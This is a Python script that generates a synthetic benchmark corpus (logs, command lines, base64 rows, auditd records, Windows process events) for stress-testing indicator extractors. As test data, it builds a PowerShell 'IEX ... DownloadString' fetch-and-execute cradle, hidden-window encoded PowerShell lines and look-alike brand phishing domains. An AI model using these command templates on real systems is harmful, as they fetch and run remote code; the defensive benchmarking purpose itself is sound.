#!/usr/bin/env python3
# ruff: noqa: UP031  (printf-style templates read closer to the log formats they imitate)
"""
A hard benchmark corpus: dense, messy inputs, where the regular one is tidy.

``/work/shared/bench/make_corpus.py`` writes regular log lines with a few observables
each. This generator (own code, own seed, standard library only) writes the same file
names with inputs that stress the extractors instead:

corpus.txt
    Log lines and report prose with 6-24 observables per line: IPv4 and every IPv6
    form (compressed, ``::ffff:`` mapped, zone ids, brackets with ports, prefixes,
    upper case), internationalised hosts in Unicode and punycode, mixed-script
    look-alikes, every common defang style, e-mail addresses, hashes in both cases,
    Windows/UNC/Linux paths, inline base64, text in several scripts, malformed
    fragments (short and out-of-range IPs, odd-length hex, broken URLs, double dots),
    and now and then a line of 10-60 KB.
cmdlines.tsv
    100,000 command lines (a ``CommandLine`` header, one per line) built from the same
    pieces.
b64rows.tsv
    100,000 command lines, about 25 % carrying base64: several blobs per line, nested
    encodings (base64 of gzip of base64), UTF-16LE, zip and tar archives with several
    members, random binary, long blobs, broken padding and base64-looking noise.
audit.log
    auditd text with long and hex-encoded EXECVE arguments, hex-encoded paths,
    SOCKADDR/USER_CMD/LOGIN records, records of neighbouring events interleaved and
    lines of unknown record types.
procs.tsv
    100,000 Windows process events (the regular corpus's columns) from 2,000 templates
    with long, quoted, mixed-script command lines, for clustering.

Usage: ``python benchmarks/make_hard_corpus.py [OUTDIR] [TARGET_MIB]`` (default
``scratch/hard_corpus``, 20 MiB of text). Files that already exist are kept (delete one
to regenerate it); each file has its own seed, so the others do not change.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import os
import random
import sys
import tarfile
import zipfile

SEED = 0x22F1C4
R = random.Random(SEED)

TLDS = ["com", "net", "org", "ru", "cn", "io", "de", "co.uk", "com.au", "xyz", "top", "jp"]
LABELS = (
    "alpha bravo cobalt delta ember falcon granite harbor iris juniper kestrel lumen "
    "meridian nimbus orbit prism quartz raven sierra tundra umbra vortex willow zephyr"
).split()
IDN_HOSTS = [
    "bücher.de",
    "münchen-reisen.de",
    "straße.example.com",
    "пример.рф",
    "例え.jp",
    "δοκιμή.gr",
    "café-crème.fr",
    "ñandú.com.ar",
    "xn--bcher-kva.de",
    "xn--e1afmkfd.xn--p1ai",
]
# Latin letters swapped for Cyrillic/Greek twins: the look-alike names of phishing.
CONFUSABLE = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і"}
BRANDS = ["apple", "paypal", "microsoft", "google", "office", "icloud", "amazon"]
SCRIPTS_PROSE = [
    "злоумышленник использовал загрузчик",
    "攻撃者はローダーを使用した",
    "استخدم المهاجم أداة تحميل",
    "ο επιτιθέμενος χρησιμοποίησε",
    "the actor staged the payload",
    "행위자가 페이로드를 준비했다",
    "🔥 beacon 📡 every 60s ✅",
    "le groupe a utilisé un chargeur",
]
USERS = ["alice", "bob", "svc_sql", "Administrator", "jürgen", "ольга", "SYSTEM"]
EXES = [
    "powershell.exe",
    "cmd.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "mshta.exe",
    "certutil.exe",
    "wmic.exe",
    "bitsadmin.exe",
    "schtasks.exe",
    "msiexec.exe",
]


# -- observables ---------------------------------------------------------------------


def ipv4() -> str:
    return ".".join(str(R.randint(0, 255)) for _ in range(4))


def ipv6() -> str:
    groups = [f"{R.randint(0, 0xFFFF):x}" for _ in range(8)]
    form = R.randrange(9)
    if form == 0:
        return ":".join(groups)
    if form == 1:
        cut = R.randint(1, 6)
        return ":".join(groups[:cut]) + "::" + ":".join(groups[cut + 1 :])
    if form == 2:
        return "::ffff:" + ipv4()
    if form == 3:
        return "fe80::%x:%x%%eth%d" % (R.randint(0, 0xFFFF), R.randint(0, 0xFFFF), R.randint(0, 3))
    if form == 4:
        return "[2001:db8::%x]:%d" % (R.randint(1, 0xFFFF), R.randint(1, 65535))
    if form == 5:
        return "2001:%x:%x::/%d" % (
            R.randint(0, 0xFFFF),
            R.randint(0, 0xFFFF),
            R.choice([32, 48, 64]),
        )
    if form == 6:
        return ":".join(groups).upper()
    if form == 7:
        return "::" + groups[0]
    return ":".join(f"{R.randint(0, 0xFFFF):04x}" for _ in range(8))


def ascii_domain() -> str:
    parts = [R.choice(LABELS) + (str(R.randint(0, 999)) if R.random() < 0.3 else "")]
    parts += [R.choice(LABELS) for _ in range(R.randint(0, 3))]
    if R.random() < 0.2:
        parts.insert(0, R.choice(LABELS) + "-" + R.choice(LABELS))
    return ".".join(parts) + "." + R.choice(TLDS)


def idn_domain() -> str:
    kind = R.randrange(4)
    if kind == 0:
        return R.choice(IDN_HOSTS)
    if kind == 1:  # punycode of a Unicode host from the list
        host = R.choice(IDN_HOSTS[:8])
        return host.encode("idna").decode("ascii")
    brand = R.choice(BRANDS)
    spoof = "".join(CONFUSABLE.get(ch, ch) if R.random() < 0.5 else ch for ch in brand)
    name = spoof + "-" + R.choice(["login", "secure", "verify"]) + "." + R.choice(TLDS)
    if kind == 2:
        return name
    try:
        return name.encode("idna").decode("ascii")
    except UnicodeError:
        return name


def domain() -> str:
    return idn_domain() if R.random() < 0.3 else ascii_domain()


def url() -> str:
    scheme = R.choice(["http", "https", "https", "ftp", "HTTP", "hTTps"])
    host = R.choice([domain(), domain(), ipv4(), "[" + ipv6().strip("[]").split("]")[0] + "]"])
    if R.random() < 0.2:
        host += ":%d" % R.randint(1, 65535)
    if R.random() < 0.1:
        host = f"{R.choice(USERS)}:{R.choice(LABELS)}@{host}"
    path = "/".join(
        R.choice([*LABELS, "%E2%9C%93", "ünï", "a b", "..", "~x"]) for _ in range(R.randint(0, 5))
    )
    query = "?q=%s&id=%d#frag" % (R.choice(LABELS), R.randint(0, 10**6)) if R.random() < 0.4 else ""
    return f"{scheme}://{host}/{path}{query}"


def email() -> str:
    local = R.choice([R.choice(LABELS), R.choice(USERS) + "." + R.choice(LABELS), "x+tag"])
    return f"{local}@{domain()}"


def hexhash(kind: str) -> str:
    raw = R.getrandbits(256).to_bytes(32, "little")
    digest = {"md5": hashlib.md5, "sha1": hashlib.sha1, "sha256": hashlib.sha256}[kind](raw)
    text = digest.hexdigest()
    return text.upper() if R.random() < 0.3 else text


def winpath() -> str:
    base = R.choice(
        [
            f"C:\\Users\\{R.choice(USERS)}\\AppData\\Roaming",
            f"C:\\Program Files (x86)\\{R.choice(LABELS).title()} Suite",
            f"\\\\{R.choice(LABELS)}\\share$\\drop",
            f"D:\\données\\{R.choice(LABELS)}",
            "C:\\Windows\\System32",
        ]
    )
    return base + "\\" + R.choice(LABELS) + R.choice([".exe", ".dll", ".ps1", ".lnk", ".hta"])


def linpath() -> str:
    parts = [R.choice(["tmp", "dev/shm", "var/lib", "home/" + R.choice(USERS), "opt"])]
    parts += [R.choice([*LABELS, ".hidden", "a b"]) for _ in range(R.randint(1, 3))]
    return "/" + "/".join(parts) + R.choice(["", ".sh", ".so.1", ".py"])


DEFANGS = [
    lambda s: s.replace(".", "[.]"),
    lambda s: s.replace(".", "(.)"),
    lambda s: s.replace(".", "{.}"),
    lambda s: s.replace(".", "[dot]"),
    lambda s: s.replace(".", " dot "),
    lambda s: s.replace(".", "[DOT]"),
    lambda s: s.replace("http", "hxxp").replace("HTTP", "hXXp"),
    lambda s: s.replace("://", "[://]"),
    lambda s: s.replace("://", "[:]//"),
    lambda s: s.replace("http", "hxxp").replace(".", "[.]").replace("://", "[:]//"),
    lambda s: s.replace("@", "[at]"),
    lambda s: s.replace("@", "[@]").replace(".", "[.]"),
    lambda s: s.replace("@", "(at)"),
]


def defang(value: str) -> str:
    return R.choice(DEFANGS)(value)


MALFORMED = [
    lambda: "%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(0, 255)),
    lambda: "%d.%d.%d.%d" % (R.randint(256, 999), R.randint(0, 255), R.randint(0, 255), 1),
    lambda: ipv4() + "." + str(R.randint(0, 255)),
    lambda: hexhash("md5")[:31],
    lambda: hexhash("sha256") + "0",
    lambda: "http://",
    lambda: f"https:///{R.choice(LABELS)}",
    lambda: f"{R.choice(LABELS)}..{R.choice(TLDS)}",
    lambda: f"{R.choice(LABELS)}.{R.choice(TLDS)}.",
    lambda: "user@",
    lambda: f"@{ascii_domain()}",
    lambda: "[.]" + R.choice(LABELS) + "[.",
    lambda: "1:2:3:4:5:6:7:8:9",
    lambda: "::::",
    lambda: "xn--",
    lambda: "xn--zz-" + R.choice(LABELS) + ".com",
]


def inline_b64() -> str:
    payload = (f"IEX(New-Object Net.WebClient).DownloadString('{url()}')").encode()
    return base64.b64encode(payload).decode()


def observable() -> str:
    kind = R.random()
    if kind < 0.14:
        return ipv4()
    if kind < 0.24:
        return ipv6()
    if kind < 0.36:
        return domain()
    if kind < 0.48:
        return url()
    if kind < 0.54:
        return email()
    if kind < 0.64:
        return hexhash(R.choice(["md5", "sha1", "sha256"]))
    if kind < 0.70:
        return winpath()
    if kind < 0.74:
        return linpath()
    if kind < 0.88:
        return defang(R.choice([url, domain, ipv4, email])())
    if kind < 0.97:
        return R.choice(MALFORMED)()
    return inline_b64()


SEPARATORS = [" ", " ", " ", ", ", "; ", "\t", " | ", "=", "'", '"', "(", ") ", "<", "> "]


def dense_line(n_min: int = 6, n_max: int = 24) -> str:
    pieces = []
    for _ in range(R.randint(n_min, n_max)):
        if R.random() < 0.35:
            pieces.append(R.choice(SCRIPTS_PROSE))
        pieces.append(observable())
        pieces.append(R.choice(SEPARATORS))
    return "".join(pieces).replace("\n", " ")


def text_line() -> str:
    roll = R.random()
    if roll < 0.004:  # a very long line: a pasted blob of observables
        return " ".join(dense_line(40, 80) for _ in range(R.randint(10, 60)))
    stamp = "2026-%02d-%02dT%02d:%02d:%02dZ" % (
        R.randint(1, 12),
        R.randint(1, 28),
        R.randint(0, 23),
        R.randint(0, 59),
        R.randint(0, 59),
    )
    return stamp + " " + dense_line()


def cmdline() -> str:
    exe = R.choice(EXES)
    body = " ".join(
        R.choice(
            [
                f'"{url()}"',
                f"-u {defang(url())}",
                f"/s:{ipv4()}",
                f"-h {ipv6()}",
                winpath(),
                f'"{winpath()}"',
                f"-m {email()}",
                "--sha {}".format(hexhash("sha256")),
                R.choice(SCRIPTS_PROSE),
                R.choice(MALFORMED)(),
            ]
        )
        for _ in range(R.randint(2, 9))
    )
    return ("C:\\Windows\\System32\\" + exe + " " + body).replace("\t", " ")


# -- base64 --------------------------------------------------------------------------


def _archive_zip(members: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for idx in range(members):
            archive.writestr("stage%d.ps1" % idx, cmdline().encode())
    return buf.getvalue()


def _archive_tar(members: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        for idx in range(members):
            data = cmdline().encode()
            info = tarfile.TarInfo("part%d.txt" % idx)
            info.size = len(data)
            info.mtime = 0
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def b64_blob() -> str:
    roll = R.random()
    if roll < 0.2:
        raw = cmdline().encode()
    elif roll < 0.35:
        raw = cmdline().encode("utf-16le")
    elif roll < 0.5:  # nested: base64 of gzip of base64 text
        inner = base64.b64encode(cmdline().encode())
        raw = gzip.compress(b"powershell -enc " + inner, mtime=0)
    elif roll < 0.6:
        raw = _archive_zip(R.randint(1, 3))
    elif roll < 0.67:
        raw = _archive_tar(R.randint(1, 3))
    elif roll < 0.77:
        raw = R.getrandbits(8 * 400).to_bytes(400, "little")[: R.randint(24, 400)]
    elif roll < 0.82:  # long blob
        raw = " ".join(cmdline() for _ in range(R.randint(2, 5))).encode()
    else:
        raw = gzip.compress(cmdline().encode(), mtime=0)
    text = base64.b64encode(raw).decode()
    if R.random() < 0.1:
        text = text.rstrip("=")  # broken padding
    return text


def b64_row() -> str:
    if R.random() >= 0.25:
        line = cmdline()
        if R.random() < 0.2:  # base64-looking noise that is not a payload
            line += " " + "".join(
                R.choice("ABCDEFabcdef0123456789+/") for _ in range(R.randint(20, 90))
            )
        return line
    blobs = [b64_blob() for _ in range(R.choice([1, 1, 1, 2, 3]))]
    return (
        "powershell.exe -nop -w hidden -enc " + " ; -e ".join(blobs) + " " + R.choice(SCRIPTS_PROSE)
    )


# -- auditd --------------------------------------------------------------------------


def _hex(text: str) -> str:
    return text.encode("utf-8").hex().upper()


def _arg(value: str) -> str:
    """auditd quotes plain arguments and hex-encodes those with spaces or quotes."""
    if any(ch in value for ch in " \"'") or not value.isascii():
        return _hex(value)
    return f'"{value}"'


def audit_event(serial: int, stamp: float) -> list[str]:
    head = "msg=audit(%.3f:%d):" % (stamp, serial)
    exe = R.choice(
        ["/usr/bin/curl", "/bin/bash", "/usr/bin/python3", "/usr/bin/ssh", "/usr/bin/sudo"]
    )
    args = [exe.rsplit("/", 1)[-1]] + [
        R.choice([url(), ipv4(), linpath(), "-c", f"echo {inline_b64()} | base64 -d", "ünï cödé"])
        for _ in range(R.randint(1, 30))
    ]
    uid = R.choice([0, 1000, 1001, 33])
    records = [
        "type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=0 "
        "items=%d ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d "
        'fsgid=%d tty=pts%d ses=%d comm="%s" exe="%s" key="exec"'
        % (
            head,
            2,
            R.randint(2, 60000),
            R.randint(2, 60000),
            uid,
            uid,
            uid,
            uid,
            uid,
            uid,
            uid,
            uid,
            uid,
            R.randint(0, 9),
            R.randint(1, 400),
            args[0],
            exe,
        ),
        "type=EXECVE %s argc=%d %s"
        % (head, len(args), " ".join("a%d=%s" % (i, _arg(a)) for i, a in enumerate(args))),
        f"type=CWD {head} cwd={_arg(linpath())}",
        "type=PATH %s item=0 name=%s inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
        "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"
        % (head, _arg(exe), R.randint(1, 10**7)),
        "type=PATH %s item=1 name=%s inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
        "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"
        % (head, _arg(linpath()), R.randint(1, 10**7)),
        "type=PROCTITLE {} proctitle={}".format(head, "00".join(_hex(a) for a in args[:6])),
    ]
    roll = R.random()
    if roll < 0.1:
        records = [
            "type=USER_CMD %s pid=%d uid=%d auid=%d ses=%d "
            "msg='cwd=%s cmd=%s terminal=pts/%d res=success'"
            % (
                head,
                R.randint(2, 60000),
                uid,
                uid,
                R.randint(1, 400),
                _arg(linpath()),
                _hex(" ".join(args)),
                R.randint(0, 9),
            )
        ]
    elif roll < 0.2:
        records = [
            "type=LOGIN %s pid=%d uid=%d subj=unconfined old-auid=4294967295 auid=%d tty=(none) "
            "old-ses=4294967295 ses=%d res=1"
            % (head, R.randint(2, 60000), uid, uid, R.randint(1, 400))
        ]
    elif roll < 0.25:
        records.insert(
            1,
            "type=SOCKADDR {} saddr=0200{:04X}{}0000000000000000".format(
                head, R.randint(1, 65535), "".join(f"{R.randint(0, 255):02X}" for _ in range(4))
            ),
        )
    return records


def write_audit(path: str, nevents: int) -> None:
    """Write ``nevents`` auditd events, some interleaved, a few unknown records."""
    stamp = 1_796_000_000.0
    pending: list[str] = []
    with open(path, "w", encoding="utf-8") as out:
        for serial in range(nevents):
            stamp += R.random() * 2
            records = audit_event(10_000 + serial, stamp)
            # Records of neighbouring events arrive interleaved now and then, as they
            # do from a busy kernel.
            if R.random() < 0.05:
                pending.extend(records)
                continue
            for line in records:
                out.write(line + "\n")
                if pending and R.random() < 0.5:
                    out.write(pending.pop(0) + "\n")
            if R.random() < 0.01:
                out.write(
                    "type=UNKNOWN[1999] msg=audit(%.3f:%d): data=%s\n"
                    % (stamp, 9 + serial, _hex("x"))
                )
        out.writelines(line + "\n" for line in pending)


# -- files ---------------------------------------------------------------------------


def write_lines(path: str, header: str | None, make, count: int) -> None:
    with open(path, "w", encoding="utf-8") as out:
        if header:
            out.write(header + "\n")
        for _ in range(count):
            out.write(make().replace("\n", " ").replace("\r", " ") + "\n")


def write_text(path: str, target_bytes: int) -> None:
    written = 0
    with open(path, "w", encoding="utf-8") as out:
        while written < target_bytes:
            line = text_line() + "\n"
            out.write(line)
            written += len(line.encode("utf-8"))


def write_procs(path: str, nrows: int) -> None:
    templates = [cmdline() for _ in range(2000)]
    hosts = ["WKS-%03d" % i for i in range(80)] + ["SRV-DC01", "SRV-ÉCHO"]
    with open(path, "w", encoding="utf-8") as out:
        out.write(
            "TimeGenerated\tComputer\tAccount\tNewProcessName\tCommandLine\tParentProcessName\t"
            "SubjectLogonId\n"
        )
        for idx in range(nrows):
            line = R.choice(templates) if R.random() < 0.9 else cmdline()
            exe = line.split(" ", 1)[0]
            out.write(
                "2026-03-01T%02d:%02d:%02d.%03dZ\t%s\t%s\t%s\t%s\t%s\t0x%x\n"
                % (
                    (idx // 3600) % 24,
                    (idx // 60) % 60,
                    idx % 60,
                    R.randint(0, 999),
                    R.choice(hosts),
                    R.choice(USERS),
                    exe,
                    line,
                    "C:\\Windows\\"
                    + R.choice(["explorer.exe", "System32\\services.exe", "System32\\cmd.exe"]),
                    R.randint(0x1000, 0xFFFFF),
                )
            )


def main(argv: list[str]) -> int:
    """Write the files of the corpus that do not exist yet."""
    if any(arg in ("-h", "--help") for arg in argv):
        print(__doc__)
        return 0
    out_dir = argv[0] if argv else "scratch/hard_corpus"
    target_mib = float(argv[1]) if len(argv) > 1 else 20.0
    os.makedirs(out_dir, exist_ok=True)
    jobs = [
        ("corpus.txt", lambda path: write_text(path, int(target_mib * 1024 * 1024))),
        ("cmdlines.tsv", lambda path: write_lines(path, "CommandLine", cmdline, 100_000)),
        ("b64rows.tsv", lambda path: write_lines(path, "CommandLine", b64_row, 100_000)),
        ("audit.log", lambda path: write_audit(path, 25_000)),
        ("procs.tsv", lambda path: write_procs(path, 100_000)),
    ]
    for offset, (name, write) in enumerate(jobs):
        path = os.path.join(out_dir, name)
        if os.path.exists(path):
            continue
        # One seed per file: a file can be regenerated alone, identical to before.
        R.seed(SEED + offset)
        write(path + ".part")
        os.replace(path + ".part", path)
    for name in sorted(os.listdir(out_dir)):
        print(name, os.path.getsize(os.path.join(out_dir, name)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
